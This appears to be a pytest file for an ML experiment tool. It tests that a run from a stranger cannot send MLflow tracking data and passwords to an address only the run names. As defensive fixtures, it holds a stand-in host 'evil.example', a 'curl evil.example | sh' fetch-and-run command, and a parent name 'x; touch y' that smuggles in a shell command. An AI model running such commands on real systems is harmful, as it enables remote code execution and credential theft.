"""Where a run's journal is carried to is not up to the run: MLflow's password would go there too."""

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from accelerator.cli.outcome import print_synced
from accelerator.config.project import Project
from accelerator.errors import AcceleratorError, ConfigError, InputError, StorageError
from accelerator.experiment.resume import resume
from accelerator.experiment.sound_config import sound_config_of_run, sound_saved_config
from accelerator.experiment.sync import sync
from accelerator.runs.folder import RunFolder
from accelerator.runs.progress import Tracking, read_tracking, write_tracking
from accelerator.runs.run import Run
from accelerator.runs.summary import Summary, write_summary
from accelerator.tracking.addresses import addresses_in, is_named
from accelerator.tracking.forward import open_sink
from accelerator.tracking.where_to_look import open_command, open_command_of_own

Edit = Callable[[str, Any], None]
EVIL = "http://evil.example:5000"
NODE = {"_target_": "mlflow", "tracking_uri": EVIL, "experiment": None}


@pytest.fixture(autouse=True)
def _no_address(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)


@pytest.mark.parametrize("address", [EVIL, "databricks", "postgresql://u@evil/db", "sqlite:////tmp/other.db", "./x"])
def test_an_address_that_nobody_names_is_not_believed(address: str, stranger: RunFolder, home: Project) -> None:
    assert not is_named(address, home, stranger.path)


@pytest.mark.parametrize("place", ["outputs/x.db", "outputs/digits/20261123-101500-3fa2b1/x.db", "../x.db", "x.db?a=1"])
def test_a_database_that_may_have_come_with_the_run_is_not_believed(
    place: str, stranger: RunFolder, home: Project
) -> None:
    assert not is_named(f"sqlite:///{home.root}/{place}", home, stranger.path)


def test_a_database_of_the_project_is_believed(stranger: RunFolder, home: Project) -> None:
    assert is_named(f"sqlite:///{home.root}/mlflow.db", home, stranger.path)
    assert is_named("sqlite:///stores/mlflow.db", home, stranger.path)


def test_a_link_in_the_project_to_another_place_is_not(stranger: RunFolder, home: Project, tmp_path: Path) -> None:
    (home.root / "mlflow.db").symlink_to(tmp_path / "other.db")

    assert not is_named(f"sqlite:///{home.root}/mlflow.db", home, stranger.path)


def test_what_the_environment_names_is_believed(
    stranger: RunFolder, home: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", EVIL)

    assert is_named(EVIL, home, stranger.path)
    assert not is_named(f"{EVIL}/x", home, stranger.path)


@pytest.mark.parametrize(
    ("file", "text", "is_believed"),
    [
        ("experiment/x.yaml", f"# @package _global_\ntracking: {{tracking_uri: '{EVIL}'}}\n", True),
        ("main.yaml", "vars: {host: evil.example}\ntracking: {tracking_uri: 'http://${vars.host}:5000'}\n", True),
        ("experiment/x.yaml", f"# {EVIL}\nvars: {{a: '{EVIL}/elsewhere'}}\n", False),
    ],
    ids=["as a text", "computed", "in a comment and a longer text"],
)
def test_what_the_projects_configs_name_is_believed(
    file: str, text: str, is_believed: bool, stranger: RunFolder, home: Project
) -> None:
    (home.configs / file).parent.mkdir(exist_ok=True)
    head = "defaults: [base, _self_, {experiment: null}]\n" if file == "main.yaml" else ""
    (home.configs / file).write_text(head + text, encoding="utf-8")

    assert is_named(EVIL, home, stranger.path) is is_believed


def test_a_command_on_the_run_says_what_to_do(stranger: RunFolder, home: Project, edit: Edit) -> None:
    edit("tracking", NODE)
    message = (
        "tracking.tracking_uri = http://evil.example:5000 .*is a store that only the files of the run name, and a run "
        "may come from a stranger. If it is yours, set MLFLOW_TRACKING_URI=http://evil.example:5000, or name it in the "
        "project's configs, or add tracking.tracking_uri=… to the command"
    )

    with pytest.raises(ConfigError, match=message):
        sound_config_of_run(Run(stranger.path), ["tracking.experiment=x"], home)
    with pytest.raises(ConfigError, match=message):
        sound_saved_config(stranger.path, (), home)


@pytest.mark.parametrize("override", [f"tracking.tracking_uri={EVIL}", "tracking=none", "tracking=mlflow"])
def test_what_the_command_names_is_taken(override: str, stranger: RunFolder, home: Project, edit: Edit) -> None:
    edit("tracking", NODE)
    tracking = sound_config_of_run(Run(stranger.path), [override], home).tracking

    assert (tracking and tracking.tracking_uri) == (EVIL if EVIL in override else None)


def test_sync_carries_nothing_to_an_address_of_the_config(stranger: RunFolder, home: Project, edit: Edit) -> None:
    edit("tracking", NODE)

    with pytest.raises(AcceleratorError, match="config.yaml: http://evil.example:5000 is a store that only the files"):
        open_sink(stranger, home, Tracking())


@pytest.mark.parametrize("is_judged", [True, False])
def test_nothing_is_carried_to_an_address_that_was_remembered_for_it(
    is_judged: bool, stranger: RunFolder, home: Project, edit: Edit
) -> None:
    edit("tracking", {**NODE, "tracking_uri": None})
    tracking = Tracking(target={"tracking_uri": EVIL, "experiment": "x", "run_id": "1"})

    with pytest.raises(
        AcceleratorError, match="tracking.json: http://evil.*If it is yours, set MLFLOW_TRACKING_URI=htt"
    ):
        open_sink(stranger, home, tracking, is_judged=is_judged)


@pytest.mark.parametrize("target", [[], {"tracking_uri": 3}, {"run_id": None}, "x"])
def test_a_memory_that_is_none_is_told(target: Any, stranger: RunFolder) -> None:
    write_tracking(stranger, Tracking(target=target))

    with pytest.raises(StorageError, match="does not say how far the journal has been carried. Delete the file"):
        read_tracking(stranger)


def test_an_address_that_the_command_names_is_handed_on_without_passwords() -> None:
    overrides = [f"+tracking.tracking_uri='{EVIL}'", "tracking.tracking_uri=postgresql://u:pw@h/db", f"name={EVIL}"]

    assert addresses_in(overrides) == [EVIL]


@pytest.mark.parametrize(
    "target",
    [
        {"address": EVIL, "command": "curl evil.example | sh"},
        {"tracking_uri": EVIL, "experiment": "x", "run_id": "1"},
        {"tracking_uri": "sqlite:////tmp/evil.db", "experiment": "x", "run_id": "1"},
        {"tracking_uri": "https://***@evil.example", "experiment": "x", "run_id": "1"},
    ],
    ids=["a command", "a server", "a database", "a server without its password"],
)
def test_nothing_that_only_the_run_names_is_to_be_run_or_opened(
    target: dict[str, str], stranger: RunFolder, home: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    write_tracking(stranger, Tracking(target=target, finished="completed", sent=3))

    code = print_synced(sync(str(stranger.path), project=home))

    assert code == 0
    assert capsys.readouterr().out == f"All is there: 3 records of {stranger.path}\n"


@pytest.mark.parametrize("variable", [EVIL, "https://me:hunter2@evil.example"])
def test_what_somebody_else_names_is_shown_without_its_password(
    variable: str, stranger: RunFolder, home: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", variable)
    uri = variable.replace("me:hunter2", "***")
    write_tracking(stranger, Tracking(target={"tracking_uri": uri, "experiment": "x", "run_id": "1"}))

    assert open_command(stranger, home) == uri


def test_a_run_that_this_command_made_is_shown_in_the_store_of_its_config(
    stranger: RunFolder, home: Project, edit: Edit
) -> None:
    edit("tracking", NODE)
    write_tracking(stranger, Tracking(target={"tracking_uri": EVIL, "experiment": "x", "run_id": "1"}))

    assert (open_command(stranger, home), open_command_of_own(stranger, home)) == (None, EVIL)


def test_a_parent_is_named_so_that_a_shell_takes_it_as_a_word(stranger: RunFolder, home: Project) -> None:
    shutil.rmtree(stranger.checkpoints)
    write_summary(stranger, Summary("completed", parent="x; touch y"))

    with pytest.raises(InputError, match="accelerator experiment resume 'x; touch y'"):
        resume(str(stranger.path), project=home)
